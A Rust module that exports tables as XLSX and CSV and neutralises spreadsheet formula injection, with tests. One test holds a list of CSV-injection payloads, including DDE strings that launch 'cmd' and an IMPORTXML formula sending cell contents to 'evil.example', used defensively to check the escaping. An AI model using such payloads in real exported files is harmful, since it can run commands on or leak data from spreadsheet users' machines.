//! Tables as files: XLSX and CSV out. It knows no table of the product and no page: who calls says what stands in the
//! cells, in which language and direction.

use anyhow::Result;
use rust_xlsxwriter::{Format, Workbook};

/// Widest column, in characters: more is cut by the program that shows it, not by us.
const WIDEST: usize = 60;
/// Longest name of a sheet that Excel takes.
const LONGEST_NAME: usize = 31;

/// A cell.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Cell {
    /// Words. What a spreadsheet would take for a formula is written so that it stays words.
    Text(String),
    /// A whole number, to count with.
    Number(i64),
}

/// A table to be written.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Sheet {
    /// Name of the sheet, in the language of the table.
    pub name: String,
    /// Whether its first column stands on the right.
    pub right_to_left: bool,
    /// What the columns are called: the first row.
    pub head: Vec<String>,
    /// The rows.
    pub rows: Vec<Vec<Cell>>,
    /// What is to be known with the table, such as its source and time: below it, after an empty row.
    pub notes: Vec<String>,
}

impl Sheet {
    /// As CSV in UTF-8. It begins with the byte order mark by which Excel knows the encoding.
    pub fn csv(&self) -> Result<Vec<u8>> {
        let mut writer = csv::WriterBuilder::new()
            .flexible(true)
            .terminator(csv::Terminator::CRLF)
            // Where a list is parted by semicolons, Excel would part `a;=1` and read a formula.
            .quote_style(csv::QuoteStyle::NonNumeric)
            .from_writer(b"\xEF\xBB\xBF".to_vec());
        writer.write_record(self.head.iter().map(|text| plain(text)))?;
        for row in &self.rows {
            writer.write_record(row.iter().map(|cell| match cell {
                Cell::Text(text) => plain(text),
                Cell::Number(number) => number.to_string(),
            }))?;
        }
        if !self.notes.is_empty() {
            writer.write_record([""])?;
        }
        for note in &self.notes {
            writer.write_record([plain(note)])?;
        }
        Ok(writer.into_inner().map_err(|error| error.into_error())?)
    }

    /// As a workbook of one sheet. The first row stays in sight.
    pub fn xlsx(&self) -> Result<Vec<u8>> {
        let mut book = Workbook::new();
        let sheet = book.add_worksheet();
        sheet.set_name(sheet_name(&self.name))?;
        sheet.set_right_to_left(self.right_to_left);
        let (bold, count) = (Format::new().set_bold(), Format::new().set_num_format("#,##0"));
        let mut at = 0;
        for (column, text) in (0..).zip(&self.head) {
            sheet.write_string_with_format(at, column, plain(text), &bold)?;
            sheet.set_column_width(column, self.width(usize::from(column)) as f64)?;
        }
        for row in &self.rows {
            at += 1;
            for (column, cell) in (0..).zip(row) {
                match cell {
                    Cell::Text(text) => sheet.write_string(at, column, plain(text))?,
                    Cell::Number(number) => {
                        sheet.write_number_with_format(at, column, *number as f64, &count)?
                    }
                };
            }
        }
        at += 1;
        for note in &self.notes {
            at += 1;
            sheet.write_string(at, 0, plain(note))?;
        }
        sheet.set_freeze_panes(1, 0)?;
        Ok(book.save_to_buffer()?)
    }

    /// Width of a column that shows its cells whole, in characters.
    fn width(&self, column: usize) -> usize {
        let cells = self.rows.iter().filter_map(|row| row.get(column)).map(|cell| match cell {
            Cell::Text(text) => text.chars().count(),
            Cell::Number(number) => number.to_string().len() + 2,
        });
        let head = self.head.get(column).map(|text| text.chars().count());
        (cells.chain(head).max().unwrap_or_default() + 2).min(WIDEST)
    }
}

/// `text` so that no spreadsheet takes it for a formula (OWASP, "CSV Injection"): an apostrophe goes before what begins
/// like one, also behind blanks, marks that nobody sees, and in full width.
fn plain(text: &str) -> String {
    let unseen = |c: char| c.is_whitespace() || c.is_control() || is_unseen(c);
    let is_formula = text.starts_with(['\t', '\r', '\n'])
        || text.trim_start_matches(unseen).starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠', '|']);
    if is_formula { format!("'{text}") } else { text.to_owned() }
}

/// Marks of direction and joining, and the byte order mark.
fn is_unseen(c: char) -> bool {
    matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{61c}')
}

/// `name` without what Excel forbids in the name of a sheet.
fn sheet_name(name: &str) -> String {
    let name: String = name.chars().filter(|c| !"[]:*?/\\".contains(*c)).take(LONGEST_NAME).collect();
    let name = name.trim_matches(['\'', ' ']);
    if name.is_empty() { "1".to_owned() } else { name.to_owned() }
}

#[cfg(test)]
mod tests {
    use std::io::Cursor;

    use calamine::{Data, Reader, Xlsx};

    use super::*;

    fn sheet() -> Sheet {
        let row = |text: &str, number| vec![Cell::Text(text.to_owned()), Cell::Number(number)];
        Sheet {
            name: "المدينة [1]: / ما يزيد على واحد وثلاثين حرفًا".into(),
            right_to_left: true,
            head: vec!["المدينة".into(), "العدد".into()],
            rows: vec![
                row("سانتياغو", 1234),
                row("=1+1", -2),
                row("+56 2", 0),
                row("-1", 1),
                row("@SUM(A1)", 1),
                row("\t=1", 1),
                row("\r=1", 1),
                row("a, \"b\"\nc", 1),
            ],
            notes: vec!["المصدر: السجلّ".into(), "=2".into()],
        }
    }

    #[test]
    fn csv_is_read_back_and_holds_no_formula() {
        let bytes = sheet().csv().unwrap();
        let text = String::from_utf8(bytes).unwrap();
        let text = text.strip_prefix('\u{FEFF}').unwrap();
        let mut reader = csv::ReaderBuilder::new().flexible(true).from_reader(text.as_bytes());
        assert_eq!(reader.headers().unwrap(), vec!["المدينة", "العدد"]);
        let rows: Vec<Vec<String>> =
            reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect();
        let firsts: Vec<&str> = rows.iter().map(|row| row[0].as_str()).collect();
        let expected = [
            "سانتياغو",
            "'=1+1",
            "'+56 2",
            "'-1",
            "'@SUM(A1)",
            "'\t=1",
            "'\r=1",
            "a, \"b\"\nc",
            "",
            "المصدر: السجلّ",
            "'=2",
        ];
        assert_eq!(firsts, expected);
        assert_eq!((rows[0][1].as_str(), rows[1][1].as_str()), ("1234", "-2"), "numbers stay numbers");
    }

    #[test]
    fn xlsx_is_read_back_and_holds_no_formula() {
        let bytes = sheet().xlsx().unwrap();
        let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes)).unwrap();
        let name = book.sheet_names()[0].clone();
        assert!(name.starts_with("المدينة 1") && name.chars().count() <= 31, "{name}");
        let cells = book.worksheet_range(&name).unwrap();
        assert_eq!(cells.get_value((0, 0)), Some(&Data::String("المدينة".into())));
        assert_eq!(cells.get_value((1, 1)), Some(&Data::Float(1234.0)));
        assert_eq!(cells.get_value((2, 0)), Some(&Data::String("'=1+1".into())));
        assert_eq!(cells.get_value((2, 1)), Some(&Data::Float(-2.0)));
        assert_eq!(cells.get_value((10, 0)), Some(&Data::String("المصدر: السجلّ".into())));
        let formulas = book.worksheet_formula(&name).unwrap();
        assert!(formulas.used_cells().all(|(_, _, formula)| formula.is_empty()));
    }

    /// What attackers' lists have: formulas, links, commands, in every guise.
    const HOSTILE: [&str; 25] = [
        "=1+1",
        "=HYPERLINK(\"https://evil.example\",\"x\")",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "+cmd|' /C calc'!A0",
        "-1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "@cmd",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u{a0}=1+1",
        "\u{200f}=1+1",
        "\u{202e}=1+1",
        "\u{feff}=1+1",
        "\u{2067}=1+1\u{2069}",
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(A1)",
        "|calc",
        "=DDE(\"cmd\",\"/C calc\",\"x\")",
        "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")",
    ];

    #[test]
    fn nothing_hostile_is_a_formula() {
        // Where it begins a cell, where lists are parted by semicolons, and in the head, the notes and the name.
        let texts: Vec<String> = HOSTILE
            .iter()
            .flat_map(|text| {
                [(*text).to_owned(), format!("a;{text}"), format!("a\";{text}"), format!("a\n{text}")]
            })
            .collect();
        for text in &texts {
            let sheet = Sheet {
                name: text.clone(),
                right_to_left: true,
                head: vec![text.clone()],
                rows: vec![vec![Cell::Text(text.clone())]],
                notes: vec![text.clone()],
            };
            let csv = String::from_utf8(sheet.csv().unwrap()).unwrap();
            // Read as Excel does where commas, semicolons or tabs part a list.
            for delimiter in [b',', b';', b'\t'] {
                let mut reader = csv::ReaderBuilder::new();
                let reader = reader.has_headers(false).flexible(true).delimiter(delimiter);
                let text = csv.trim_start_matches('\u{feff}').as_bytes();
                for cell in reader
                    .from_reader(text)
                    .records()
                    .flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
                {
                    assert_eq!(cell, plain(&cell), "a cell of {csv:?}");
                }
            }
            let mut book: Xlsx<_> =
                calamine::open_workbook_from_rs(Cursor::new(sheet.xlsx().unwrap())).unwrap();
            let name = book.sheet_names()[0].clone();
            assert!(
                book.worksheet_formula(&name).unwrap().used_cells().all(|(_, _, formula)| formula.is_empty())
            );
            for (_, _, cell) in book.worksheet_range(&name).unwrap().used_cells() {
                let Data::String(cell) = cell else { panic!("{cell:?}") };
                assert_eq!(*cell, plain(cell));
            }
        }
        for text in HOSTILE {
            assert_eq!(plain(text), format!("'{text}"), "it is known for what it is");
        }
        for text in ["سانتياغو", "a=1", "3+4", "Al-Khalil", "٣=١"] {
            assert_eq!(plain(text), text);
        }
    }

    #[test]
    fn a_sheet_without_name_or_rows_is_one_all_the_same() {
        for name in ["", "'", "[]"] {
            let sheet = Sheet { name: name.into(), ..Sheet::default() };
            assert!(!sheet.xlsx().unwrap().is_empty());
            assert!(sheet.csv().unwrap().starts_with(b"\xEF\xBB\xBF"));
        }
    }
}
